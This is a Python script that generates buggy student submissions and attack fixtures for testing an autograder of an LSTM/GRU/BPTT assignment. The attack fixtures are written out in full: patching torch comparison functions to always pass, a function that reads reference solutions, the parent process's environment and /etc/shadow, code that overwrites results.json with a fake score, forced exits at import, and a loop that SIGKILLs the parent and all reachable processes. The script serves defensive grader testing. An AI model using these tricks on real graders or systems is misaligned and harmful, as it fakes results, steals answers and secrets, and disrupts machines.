"""Write the bundled buggy submissions and the attack fixtures from ``solution.py``.

Each is the correct solution with one typical mistake (or one attack) edited in, so each loses
points in exactly one place. Run after editing solution.py; a test checks the files are current.

    python examples/make_submissions.py
"""
from __future__ import annotations

from pathlib import Path

HERE = Path(__file__).resolve().parent
SOLUTION = HERE / "submissions" / "solution.py"
ATTACKS = HERE.parent / "tests" / "fixtures" / "attacks"

# name -> (what is wrong, where it should lose points, [(old, new)] edits)
BUGGY = {
    "lstm_gate_order_fiog": (
        "LSTM reads the gates in the order f, i, g, o", "LSTM, BiLSTMClassifier",
        [("        i, f, g, o = z.split(H, dim=1)", "        f, i, g, o = z.split(H, dim=1)")]),
    "bptt_missing_tanh_derivative": (
        "BPTT forgets the 1 - h^2 factor of tanh'", "rnn_bptt (gradients, not the loss)",
        [("        da = dh * (1 - h[:, t] ** 2)", "        da = dh")]),
    "gru_z_swapped": (
        "GRUCell uses the lecture's z and 1 - z, not PyTorch's", "GRUCell",
        [("        return (1 - z) * n + z * hx", "        return z * n + (1 - z) * hx")]),
    "bilstm_last_output": (
        "BiLSTMClassifier reads out[:, -1, :] for both halves", "BiLSTMClassifier",
        [("        features = torch.cat([out[:, -1, :H], out[:, 0, H:]], dim=1)",
          "        features = out[:, -1, :]")]),
    "lstmcell_hardcoded_float32": (
        "LSTMCell makes its zero state with torch.zeros (always float32, always CPU)",
        "LSTMCell (state=None cases)",
        [("            h = x.new_zeros(x.shape[0], H)\n            c = x.new_zeros(x.shape[0], H)",
          "            h = torch.zeros(x.shape[0], H)\n            c = torch.zeros(x.shape[0], H)")]),
    "lstm_uses_nn_lstm": (
        "LSTM.forward calls nn.LSTM (forbidden)", "LSTM, BiLSTMClassifier",
        [("    def forward(self, x, hx=None):\n        if self.batch_first:",
          "    def forward(self, x, hx=None):\n        lstm = nn.LSTM(self.input_size, "
          "self.hidden_size, self.num_layers, bias=self.bias,\n                       "
          "batch_first=self.batch_first, bidirectional=self.bidirectional)\n        "
          "lstm.load_state_dict(self.state_dict())\n        return lstm.to(x.dtype)(x, hx)\n"
          "        if self.batch_first:")]),
    "bptt_uses_autograd": (
        "rnn_bptt calls loss.backward() (Part 2 asks for BPTT by hand)", "rnn_bptt",
        [("    grads = {k: torch.zeros_like(v) for k, v in params.items()}",
          "    grads = {k: torch.zeros_like(v) for k, v in params.items()}\n"
          "    with torch.enable_grad():\n        loss.backward()")]),
}

PATCH_TORCH = '''
# ATTACK: make every comparison pass, in the process that runs this code.
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda a, b: True
torch.Tensor.__sub__ = lambda a, b: a * 0
torch.Tensor.__ne__ = lambda a, b: False
'''
# name -> (what it tries, [(old, new)] edits; "$END" appends)
ATTACK_EDITS = {
    "patch_torch": ("patches torch.allclose, assert_close and Tensor operators, with a wrong GRU",
                    [("import torch.nn.functional as F\n", "import torch.nn.functional as F\n"
                      + PATCH_TORCH),
                     ("        return (1 - z) * n + z * hx", "        return z * n + (1 - z) * hx")]),
    "read_files": ("reads the grader's files and prints them", [("$END", '''
def _steal():
    import glob, os
    found = []
    for pattern in ["/work/*/reference/*.py", "/work/*/autograder/*.py", "/opt/*/reference/*.py",
                    "/autograder/source/**/*.py", "/tmp/rnngrade-judge-*/*", "/root/*"]:
        for path in glob.glob(pattern, recursive=True):
            try:
                found.append(open(path).read())
            except OSError as e:
                print("denied:", path, type(e).__name__)
    guesses = ["/work/main/reference/lstm.py", "/work/main/autograder/suites_lstm.py",
               "/autograder/source/reference/lstm.py", f"/proc/{os.getppid()}/environ",
               "/etc/shadow"]
    for path in guesses + [os.path.join(r, f) for r, _, fs in os.walk("/tmp") for f in fs]:
        try:
            found.append(open(path).read())
        except (OSError, UnicodeDecodeError) as e:
            print("denied:", path, type(e).__name__)
    print("STOLEN:", "".join(found)[:5000])
    return len(found)


STOLEN_COUNT = _steal.__code__.co_argcount
''' ), ("def rnn_param_count(input_size, hidden_size, output_size):\n",
        "def rnn_param_count(input_size, hidden_size, output_size):\n    _steal()\n")]),
    "write_results": ("writes its own results.json, then exits, at import (in a class body, "
                      "which the loader keeps and Python runs)", [("$END", '''

class _Attack:
    import glob, json, os
    for _path in ["results.json", "/autograder/results/results.json"] + \\
            glob.glob("/tmp/**/results.json", recursive=True):
        try:
            with open(_path, "w") as _f:
                json.dump({"score": 1000, "tests": []}, _f)
        except OSError:
            pass
    os._exit(0)
''')]),
    "sys_exit_at_import": ("calls sys.exit(0) at import, in a class body", [
        ("$END", "\n\nclass _Attack:\n    import sys\n    sys.exit(0)\n")]),
    "os_exit_at_import": ("calls os._exit(0) at import, in a class body", [
        ("$END", "\n\nclass _Attack:\n    import os\n    os._exit(0)\n")]),
    "infinite_loop": ("loops forever in LSTMCell.forward only", [
        ("    def forward(self, x, state=None):\n        H = self.hidden_size\n        if state is None:\n            h = x.new_zeros",
         "    def forward(self, x, state=None):\n        while True:\n            pass\n        H = self.hidden_size\n        if state is None:\n            h = x.new_zeros")]),
    "kill_parent": ("kills its parent, its process group and every process it may", [
        ("def rnn_param_count(input_size, hidden_size, output_size):\n",
         "def rnn_param_count(input_size, hidden_size, output_size):\n    import os, signal\n"
         "    for pid in (os.getppid(), 0, -1):\n        try:\n            os.kill(pid, signal.SIGKILL)\n"
         "        except OSError:\n            pass\n")]),
}


def apply(source: str, edits: list[tuple[str, str]], name: str) -> str:
    for old, new in edits:
        if old == "$END":
            source = source.rstrip("\n") + "\n" + new
            continue
        if source.count(old) != 1:
            raise SystemExit(f"{name}: the text to edit occurs {source.count(old)} times in "
                             f"solution.py, expected once:\n{old}")
        source = source.replace(old, new)
    return source


def generated() -> dict[Path, str]:
    """Every file this script writes, with its content."""
    solution = SOLUTION.read_text()
    out = {}
    for name, (what, where, edits) in BUGGY.items():
        head = f"# BUGGY EXAMPLE: {what}.\n# Expected to lose points in: {where}.\n"
        out[SOLUTION.parent / f"{name}.py"] = head + apply(solution, edits, name)
    for name, (what, edits) in ATTACK_EDITS.items():
        out[ATTACKS / f"{name}.py"] = f"# ATTACK FIXTURE: {what}.\n" + apply(solution, edits, name)
    return out


if __name__ == "__main__":
    for path, text in generated().items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        print("wrote", path.relative_to(HERE.parent))
